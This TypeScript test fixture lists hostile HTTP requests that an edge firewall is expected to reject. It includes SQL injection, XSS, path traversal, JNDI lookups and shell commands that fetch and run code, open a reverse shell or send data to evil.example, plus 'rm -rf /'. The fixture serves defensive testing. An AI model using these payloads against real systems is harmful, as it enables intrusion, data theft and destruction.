import type { EdgeRequest } from './support/edge-client';

export type AttackCategory =
  | 'sql-injection-query'
  | 'sql-injection-body'
  | 'xss'
  | 'path-traversal'
  | 'command-injection'
  | 'jndi'
  | 'scanner'
  | 'protocol'
  | 'oversized-header';

export interface Attack {
  category: AttackCategory;
  request: EdgeRequest;
}

const DOC = '3f2b8c1e-9d4a-4e6b-8f0a-1c2d3e4f5a6b';
const q = (path: string, params: Record<string, string>): string => `${path}?${new URLSearchParams(params)}`;
const get = (category: AttackCategory, path: string, headers?: Record<string, string>): Attack => ({ category, request: { method: 'GET', path, headers } });
const send = (category: AttackCategory, method: string, path: string, body: unknown, headers?: Record<string, string>): Attack => ({
  category,
  request: { method, path, body, headers },
});

/**
 * Hostile requests an edge must refuse (403) before they reach the API. Payloads sit where the
 * exclusions do not reach: query strings, paths, headers, and JSON members other than a document's
 * free-text title and body (an unknown member beside them is inspected too).
 */
export const ATTACKS: Attack[] = [
  get('sql-injection-query', q('/v1/documents', { limit: "1' OR '1'='1" })),
  get('sql-injection-query', q('/v1/documents', { cursor: '1 UNION SELECT username, password FROM users--' })),
  get('sql-injection-query', q('/v1/audit/events', { stream: "x'; DROP TABLE documents;--" })),
  get('sql-injection-query', q('/v1/audit/events', { actor: "admin' AND SLEEP(5)--" })),
  get('sql-injection-query', q('/v1/audit/events', { type: '1;SELECT pg_sleep(10)' })),
  get('sql-injection-query', q('/v1/documents', { limit: '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)' })),
  get('sql-injection-query', q('/v1/audit/events', { from: "2024' || (SELECT version()) || '" })),
  get('sql-injection-query', `/v1/documents/${encodeURIComponent("1' OR 1=1 --")}`),
  send('sql-injection-body', 'PUT', '/v1/me/profile', { displayName: "' OR 1=1 --" }),
  send('sql-injection-body', 'PUT', '/v1/me/profile', { email: "a@b.example' UNION SELECT * FROM users--" }),
  send('sql-injection-body', 'PUT', `/v1/documents/${DOC}/shares/user_x`, { access: "read' OR '1'='1" }),
  send('sql-injection-body', 'POST', '/v1/billing/checkout-sessions', { priceId: 'price_1; DROP TABLE billing_subscriptions; --' }),
  send('sql-injection-body', 'POST', '/v1/audit/exports', { stream: "x' UNION ALL SELECT NULL,NULL,NULL--" }),
  send('sql-injection-body', 'POST', '/v1/documents', { title: 'ok', body: 'ok', owner: "1' OR '1'='1" }),
  send('sql-injection-body', 'PATCH', `/v1/documents/${DOC}`, { title: 'ok', revision: '1; UPDATE documents SET owner_id=0x61646d696e --' }),
  get('xss', q('/v1/documents', { q: '<script>alert(1)</script>' })),
  get('xss', q('/v1/audit/events', { type: '<img src=x onerror=alert(1)>' })),
  get('xss', q('/v1/me', { callback: 'javascript:alert(document.domain)' })),
  get('xss', `/v1/documents/${encodeURIComponent('<script>alert(1)</script>')}`),
  get('xss', '/v1/me', { referer: 'https://x.example/"><script>alert(1)</script>' }),
  send('xss', 'PUT', '/v1/me/profile', { displayName: '<script>alert(document.cookie)</script>' }),
  send('xss', 'PUT', '/v1/me/profile', { displayName: '<svg/onload=alert(1)>' }),
  send('xss', 'PUT', '/v1/me/profile', { displayName: '"><iframe src="javascript:alert(1)">' }),
  send('xss', 'POST', '/v1/documents', { title: 'ok', body: 'ok', note: '<body onload=alert(1)>' }),
  get('path-traversal', '/v1/documents/%252e%252e%252f%252e%252e%252fetc%252fpasswd'),
  get('path-traversal', q('/v1/documents', { file: '../../../../etc/passwd' })),
  get('path-traversal', '/v1/documents/..;/..;/etc/shadow'),
  get('path-traversal', q('/v1/me/export', { path: '....//....//....//etc/passwd' })),
  get('path-traversal', q('/v1/me/export', { path: '..\\..\\..\\windows\\win.ini' })),
  get('path-traversal', '/v1/audit/streams/..%2F..%2Fproc%2Fself%2Fenviron/verification'),
  send('path-traversal', 'PUT', '/v1/me/profile', { displayName: '../../../../etc/passwd' }),
  get('command-injection', q('/v1/documents', { q: ';cat /etc/passwd' })),
  get('command-injection', q('/v1/audit/events', { actor: '$(id)' })),
  get('command-injection', q('/v1/documents', { q: '`wget http://evil.example/x.sh -O- | sh`' })),
  get('command-injection', q('/v1/documents', { cmd: '|| ping -c 10 127.0.0.1' })),
  send('command-injection', 'PUT', '/v1/me/profile', { displayName: '; rm -rf / #' }),
  send('command-injection', 'POST', '/v1/billing/checkout-sessions', { priceId: '| nc -e /bin/sh evil.example 4444' }),
  send('command-injection', 'PUT', '/v1/me/profile', { displayName: "x && curl http://evil.example/$(cat /etc/hostname)" }),
  get('jndi', '/v1/me', { 'user-agent': '${jndi:ldap://evil.example/a}' }),
  get('jndi', q('/v1/documents', { q: '${jndi:ldap://evil.example:1389/Exploit}' })),
  get('jndi', '/v1/me', { 'x-api-version': '${jndi:rmi://evil.example/x}' }),
  get('jndi', q('/v1/audit/events', { stream: '${${lower:j}ndi:${lower:l}dap://evil.example/a}' })),
  send('jndi', 'PUT', '/v1/me/profile', { displayName: '${jndi:dns://evil.example/a}' }),
  get('scanner', '/v1/me', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
  get('scanner', '/v1/documents', { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' }),
  get('scanner', '/health/live', { 'user-agent': 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }),
  get('scanner', '/v1/me', { 'user-agent': 'gobuster/3.6' }),
  get('scanner', '/v1/documents', { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }),
  get('scanner', '/v1/me', { 'user-agent': 'commix/v3.8 (https://commixproject.com)' }),
  { category: 'protocol', request: { method: 'PROPFIND', path: '/v1/documents' } },
  { category: 'protocol', request: { method: 'GET', path: '/v1/documents', body: '{"a":1}', headers: { 'content-type': 'application/json' } } },
  send('protocol', 'POST', '/v1/documents', '<doc><title>x</title></doc>', { 'content-type': 'text/xml' }),
  send('protocol', 'POST', '/v1/documents', '{"title":"x","body":"y"}', { 'content-type': 'application/json; charset=utf-7' }),
  get('protocol', '/v1/documents?q=%00'),
  get('protocol', '/v1/me', { proxy: 'http://evil.example:8080' }),
  get('protocol', '/v1/documents/backup.sql'),
  get('protocol', '/config.bak'),
  get('protocol', q('/v1/documents', { q: 'x\r\nSet-Cookie: session=attacker' })),
  get('protocol', q('/v1/documents', { x: 'GET /admin HTTP/1.1\r\nHost: internal' })),
  get('oversized-header', '/v1/me', { 'x-filler': 'a'.repeat(9_000) }),
  get('oversized-header', '/v1/documents', { cookie: `session=${'b'.repeat(12_000)}` }),
  get('oversized-header', '/health/live', { referer: `https://x.example/${'c'.repeat(15_000)}` }),
];
